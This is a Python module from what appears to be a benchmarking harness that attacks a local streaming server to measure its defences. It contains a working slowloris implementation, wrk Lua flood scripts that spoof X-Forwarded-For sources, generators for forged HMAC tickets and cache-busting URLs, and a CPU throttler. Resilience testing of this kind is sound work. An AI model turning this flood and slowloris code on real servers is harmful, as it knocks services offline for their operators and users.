"""The attackers of `ruang bench attack`: where each kind of client comes from, and the three
ways they are made.

* **wrk with a Lua script** for the request floods (joins, playlists, parts and segments,
  cache-busting URLs, forged tickets): wrk is C and spends a few tens of microseconds per
  request, so most of this 2-core machine stays with the server. wrk connects from 127.0.0.1;
  the server under test trusts that address as an edge (`--trusted-proxy 127.0.0.1/32`) and
  each request names its attacker in `X-Forwarded-For`, drawn from a pool of 127.a.b.c
  addresses — the server's limits and evidence see those sources, as behind a CDN. The
  script counts the answers by status and prints them as one JSON line at the end.
* **A slowloris process** (`python -m ruang_bench.attackers slowloris CONFIG RESULT`): raw
  asyncio connections, each bound to its own 127.a.b.c source, that send a request line and
  then one header line every few seconds, never finishing; when the server hangs up, the
  connection is opened again.
* **A CPU quota** for the under-provisioned node (`python -m ruang_bench.attackers throttle`):
  the delivery worker is stopped and continued (SIGSTOP/SIGCONT) so that it runs at most
  `share` of every 20 ms period, as CFS bandwidth control (a cgroup's cpu.max) would do.

Bot listeners are `ruang_bench.player` processes (real LL-HLS pacing, honest proof-of-work)
given packed source addresses. Everything is bounded: counts, durations, and every process is
killed at its deadline.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import random
import re
import resource
import signal
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ruang_bench.player import IP_BIND_ADDRESS_NO_PORT

MAX_PATHS = 20_000  # request paths in one wrk script
MAX_SLOW_CONNECTIONS = 15_000  # below `ulimit -n` (20000 here)
WRK_GRACE_S = 15.0  # wrk is killed this long after its own duration


# -- addresses ---------------------------------------------------------------------------------
def audience_address(i: int, networks: int = 100) -> str:
    """The regular audience: listener i in 127.1.(i mod networks).0/24, a few per network."""
    return f"127.1.{i % networks}.{1 + i // networks}"


def known_network_address(i: int, host: int, networks: int = 100) -> str:
    """A newcomer in one of the regular audience's networks (host part from `host` up)."""
    return f"127.1.{i % networks}.{host + i // networks}"


def spread_address(block: int, i: int) -> str:
    """One address per /24 in a block of 16 × 256 networks: 127.(block+i//256).(i%256).1."""
    return f"127.{block + i // 256}.{i % 256}.1"


def packed_address(block: int, i: int, per_network: int) -> str:
    """`per_network` addresses per /24, from 127.block.0.0/24 on."""
    net, host = divmod(i, per_network)
    return f"127.{block + net // 256}.{net % 256}.{1 + host}"


# -- wrk floods --------------------------------------------------------------------------------
_LUA = r"""
local paths = {%(paths)s}
local sources = {%(sources)s}
local method, body = "%(method)s", %(body)s
local delay_ms = %(delay)s
local threads, counter = {}, 0
function setup(thread)
  counter = counter + 1
  thread:set("id", counter)
  table.insert(threads, thread)
end
function init(args)
  math.randomseed(id * 7919 + os.time())
  statuses, sent = {}, 0
end
function request()
  sent = sent + 1
  local headers = {["X-Forwarded-For"] = sources[math.random(#sources)]}
  if body then headers["Content-Type"] = "application/json" end
  return wrk.format(method, paths[math.random(#paths)], headers, body)
end
%(delay_fn)s
function response(status, headers, body)
  statuses[status] = (statuses[status] or 0) + 1
end
function done(summary, latency, requests)
  local total, s = {}, 0
  for _, t in ipairs(threads) do
    s = s + t:get("sent")
    for k, v in pairs(t:get("statuses")) do total[k] = (total[k] or 0) + v end
  end
  local out = {}
  for k, v in pairs(total) do table.insert(out, string.format('"%%d": %%d', k, v)) end
  io.write(string.format('ATTACK {"sent": %%d, "status": {%%s}, "errors": {"connect": %%d, ' ..
    '"read": %%d, "write": %%d, "timeout": %%d, "status": %%d}}\n', s, table.concat(out, ", "),
    summary.errors.connect, summary.errors.read, summary.errors.write, summary.errors.timeout,
    summary.errors.status))
end
"""


def _lua_string(s: str) -> str:
    if not re.fullmatch(r"[\w./:?=&%+\-{}]*", s):
        raise ValueError(f"unexpected characters in {s!r}")
    return json.dumps(s)  # a JSON string of these characters is a valid Lua string


def wrk_script(
    paths: list[str], sources: list[str], method: str = "GET", body: str | None = None,
    rate: float | None = None, connections: int = 64,
) -> str:  # fmt: skip
    """The Lua script of one flood: random path and source per request; with `rate`, each
    connection waits between its requests so that all together offer about `rate`/s."""
    if not paths or not sources or len(paths) > MAX_PATHS:
        raise ValueError(f"need 1..{MAX_PATHS} paths and at least one source")
    delay = 0 if rate is None else max(0, round(connections * 1000 / rate))
    return _LUA % {
        "paths": ",".join(_lua_string(p) for p in paths),
        "sources": ",".join(_lua_string(s) for s in sources),
        "method": method,
        "body": "nil" if body is None else _lua_string(body),
        "delay": delay,
        "delay_fn": "function delay() return delay_ms end" if rate is not None else "",
    }


@dataclass
class Flood:
    """One running wrk flood."""

    name: str
    proc: subprocess.Popen[bytes]
    out: Path
    duration_s: float
    started: float = field(default_factory=time.monotonic)
    pid: int = 0

    def result(self) -> dict[str, Any]:
        """Wait for wrk; its counts: sent, answered by status, socket errors, rate."""
        try:
            self.proc.wait(
                max(0.1, self.started + self.duration_s + WRK_GRACE_S - time.monotonic())
            )
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        text = self.out.read_text(errors="replace")
        line = next((x for x in text.splitlines() if x.startswith("ATTACK ")), None)
        if line is None:
            return {"error": f"wrk printed no result (exit {self.proc.returncode}): {text[-500:]}"}
        got: dict[str, Any] = json.loads(line[len("ATTACK ") :])
        status = {str(k): int(v) for k, v in sorted(got["status"].items())}
        answered = sum(status.values())
        return {
            "tool": "wrk",
            "sent": int(got["sent"]),
            "answered": answered,
            "status": status,
            "ok_2xx": sum(v for k, v in status.items() if k.startswith("2")),
            "refused": sum(v for k, v in status.items() if not k.startswith("2")),
            "socket_errors": got["errors"],
            "sent_per_s": round(int(got["sent"]) / self.duration_s, 1),
        }


def start_wrk(
    name: str, url: str, script: str, folder: Path, duration_s: float, connections: int = 64
) -> Flood:
    """Start wrk (one thread) with `script` for `duration_s` against `url`."""
    folder.mkdir(parents=True, exist_ok=True)
    lua, out = folder / f"{name}.lua", folder / f"{name}.out"
    lua.write_text(script)
    with open(out, "wb") as log:
        proc = subprocess.Popen(
            ["wrk", "-t1", f"-c{connections}", f"-d{max(1, round(duration_s))}s", "--timeout",
             "5s", "-s", str(lua), url],
            stdout=log, stderr=subprocess.STDOUT,
        )  # fmt: skip
    return Flood(name, proc, out, duration_s, pid=proc.pid)


# -- slowloris ---------------------------------------------------------------------------------
@dataclass
class SlowStats:
    """What the slowloris connections saw."""

    opened: int = 0
    connect_failed: int = 0
    hung_up: int = 0  # closed by the server before the request was complete
    answered: int = 0  # the server answered something (a status line) instead
    held_s: list[float] = field(default_factory=list)
    open_now: int = 0
    open_max: int = 0


async def _slow_connection(
    host: str, port: int, source: str, path: str, trickle_s: float, end: float, s: SlowStats
) -> None:
    loop = asyncio.get_running_loop()
    while time.monotonic() < end:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            sock.bind((source, 0))
            sock.setblocking(False)
            await asyncio.wait_for(loop.sock_connect(sock, (host, port)), 5.0)
        except (OSError, TimeoutError):
            sock.close()
            s.connect_failed += 1
            await asyncio.sleep(1.0)
            continue
        s.opened += 1
        s.open_now += 1
        s.open_max = max(s.open_max, s.open_now)
        began = time.monotonic()
        try:
            await loop.sock_sendall(sock, f"GET {path} HTTP/1.1\r\nHost: {host}\r\n".encode())
            n = 0
            while time.monotonic() < end:
                try:
                    data = await asyncio.wait_for(loop.sock_recv(sock, 4096), trickle_s)
                except TimeoutError:
                    n += 1
                    await loop.sock_sendall(sock, b"X-Slow-%d: %d\r\n" % (n, n))
                    continue
                if data.startswith(b"HTTP/"):
                    s.answered += 1
                else:
                    s.hung_up += 1
                s.held_s.append(round(time.monotonic() - began, 2))
                break
        except OSError:
            s.hung_up += 1
            s.held_s.append(round(time.monotonic() - began, 2))
        finally:
            s.open_now -= 1
            sock.close()


async def slowloris(config: dict[str, Any]) -> dict[str, Any]:
    """Hold `connections` trickling connections until the end; reopen what the server closes."""
    n = min(int(config["connections"]), MAX_SLOW_CONNECTIONS)
    sources: list[str] = config["sources"]
    end = time.monotonic() + float(config["duration_s"])
    ramp = float(config.get("ramp_s", 2.0))
    stats = SlowStats()

    async def one(i: int) -> None:
        await asyncio.sleep(ramp * i / n)
        await _slow_connection(
            config["host"], int(config["port"]), sources[i % len(sources)], config["path"],
            float(config["trickle_s"]), end, stats,
        )  # fmt: skip

    began = time.monotonic()
    cpu0 = sum(os.times()[:2])
    tasks = [asyncio.create_task(one(i)) for i in range(n)]
    await asyncio.sleep(max(0.0, end - time.monotonic()))
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    held = sorted(stats.held_s)
    return {
        "tool": "slowloris (asyncio)",
        "connections": n,
        "sources": len(sources),
        "opened": stats.opened,
        "connect_failed": stats.connect_failed,
        "hung_up_by_server": stats.hung_up,
        "answered": stats.answered,
        "open_max": stats.open_max,
        "held_s_p50": held[len(held) // 2] if held else None,
        "held_s_max": held[-1] if held else None,
        "wall_s": round(time.monotonic() - began, 2),
        "cpu_s": round(sum(os.times()[:2]) - cpu0, 2),
    }


def start_slowloris(folder: Path, config: dict[str, Any]) -> subprocess.Popen[bytes]:
    """Run `slowloris` in its own process (its result in folder/slowloris.json)."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "slowloris-config.json").write_text(json.dumps(config))
    with open(folder / "slowloris.log", "wb") as log:
        return subprocess.Popen(
            [sys.executable, "-m", "ruang_bench.attackers", "slowloris",
             str(folder / "slowloris-config.json"), str(folder / "slowloris.json")],
            stdout=log, stderr=subprocess.STDOUT,
        )  # fmt: skip


# -- a CPU quota for the under-provisioned node -----------------------------------------------
def throttle(pids: list[int], share: float, period_s: float, duration_s: float) -> None:
    """Let `pids` run `share` of each period, stopped the rest of it, for `duration_s`;
    always leaves them running."""
    run_s = max(0.0005, share * period_s)
    end = time.monotonic() + duration_s

    def cont(*_: object) -> None:
        for pid in pids:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGCONT)

    def stop(*_: object) -> None:
        cont()
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    try:
        with contextlib.suppress(PermissionError, OSError):  # stop/continue on time
            os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(10))
        while time.monotonic() < end:
            began = time.monotonic()
            time.sleep(run_s)
            for pid in pids:
                os.kill(pid, signal.SIGSTOP)
            time.sleep(max(0.0, period_s - (time.monotonic() - began)))
            cont()
    except ProcessLookupError:
        pass
    finally:
        cont()


def start_throttle(
    pids: list[int], share: float, duration_s: float, period_s: float = 0.02
) -> subprocess.Popen[bytes]:
    """The CPU quota in its own small process."""
    return subprocess.Popen(
        [sys.executable, "-m", "ruang_bench.attackers", "throttle", ",".join(map(str, pids)),
         str(share), str(period_s), str(duration_s)],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip


def stop_throttle(proc: subprocess.Popen[bytes], pids: list[int]) -> None:
    """End the quota; the throttled processes run freely again."""
    if proc.poll() is None:
        proc.terminate()
        try:
            proc.wait(5)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
    for pid in pids:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGCONT)


# -- paths -------------------------------------------------------------------------------------
def _b64(rng: random.Random, n: int) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(n))


def forged_tickets(real: list[str], n: int, seed: int = 7) -> list[str]:
    """Half random tickets of the right shape, half real ones tampered with (listener, expiry
    or MAC changed): every one fails the HMAC."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        if i % 2 or not real:
            out.append(
                f"{_b64(rng, 11)}.{int(time.time()) + rng.randrange(60, 900)}.{_b64(rng, 43)}"
            )
            continue
        who, expires, mac = rng.choice(real).split(".")
        field_ = i % 3
        if field_ == 0:
            who = _b64(rng, len(who))
        elif field_ == 1:
            expires = str(int(expires) + rng.randrange(1, 10_000))
        else:
            mac = mac[:-4] + _b64(rng, 4)
        out.append(f"{who}.{expires}.{mac}")
    return out


def cache_bust_paths(space: str, tickets: list[str], names: list[str], n: int) -> list[str]:
    """Ticketed playlist and part URLs with random query strings (4 in 5), and random file
    names (1 in 5): what a cache-busting flood sends to get past an edge's cache."""
    rng = random.Random(11)
    out = []
    for i in range(n):
        base = f"/hls/{space}/t/{rng.choice(tickets)}/"
        if i % 5 == 4:
            out.append(base + f"{rng.randrange(10**6)}.{rng.randrange(10)}{_b64(rng, 6)}.m4s")
        else:
            name = "live.m3u8" if i % 2 else rng.choice(names)
            key = rng.choice(("_", "cb", "t", "v", "nocache"))
            out.append(base + f"{name}?{key}={rng.randrange(10**9)}")
    return out


def main(argv: list[str] | None = None) -> None:
    """`python -m ruang_bench.attackers slowloris CONFIG RESULT` or `throttle PIDS SHARE
    PERIOD DURATION`."""
    args = sys.argv[1:] if argv is None else argv
    if args[0] == "slowloris":
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        config = json.loads(Path(args[1]).read_text())
        result = asyncio.run(slowloris(config))
        Path(args[2]).write_text(json.dumps(result))
    elif args[0] == "throttle":
        pids = [int(p) for p in args[1].split(",") if p]
        throttle(pids, float(args[2]), float(args[3]), float(args[4]))
    else:
        raise SystemExit(f"unknown attacker {args[0]!r}")


if __name__ == "__main__":
    main()
